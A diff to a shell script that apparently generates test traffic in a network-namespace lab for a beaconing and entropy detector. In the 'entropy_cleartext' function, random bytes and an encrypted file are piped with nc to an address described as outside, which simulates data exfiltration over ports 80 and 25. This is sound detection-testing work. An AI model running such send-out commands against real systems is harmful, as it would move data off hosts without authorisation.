@@ -18,7 +18,8 @@
 #                     .43 looks names up every 0-4 s and .31 looks one name
 #                     up every 1-12 s (irregular: must not be beacons)
 #   entropy-cleartext 100 KB of `openssl rand` sent with nc from .10 to
-#                     .42:80, and a file encrypted by `openssl enc` to .42:25
+#                     203.0.113.99:80, and a file encrypted by `openssl enc`
+#                     to 203.0.113.99:25 (an outside address of .42's namespace)
 #   entropy-benign    curl from .30 to nginx on .20:80: plain pages, a
 #                     gzip-compressed text (`--compressed`) and 200 KB of
 #                     random bytes as the body of a download
@@ -193,13 +194,17 @@ beacon_dns() {
     wait
 }
 
+# the receiver is outside: 203.0.113.99, an address of namespace v2 (whose
+# nginx-free ports 80 and 25 nc can take)
 entropy_cleartext() {
-    on v2 timeout 20 nc -l -p 80 >/dev/null &
-    on v2 timeout 20 nc -l -p 25 >/dev/null &
+    local r=203.0.113.99
+    on v2 ip addr replace "$r/24" dev eth0
+    on v2 timeout 20 nc -l -s "$r" -p 80 >/dev/null &
+    on v2 timeout 20 nc -l -s "$r" -p 25 >/dev/null &
     sleep 0.5
-    openssl rand 100000 | on a timeout 10 nc -N "$DET_NET.42" 80
+    openssl rand 100000 | on a timeout 10 nc -N "$r" 80
     openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab -in /usr/share/common-licenses/GPL-3 |
-        on a timeout 10 nc -N "$DET_NET.42" 25
+        on a timeout 10 nc -N "$r" 25
     wait
 }
 
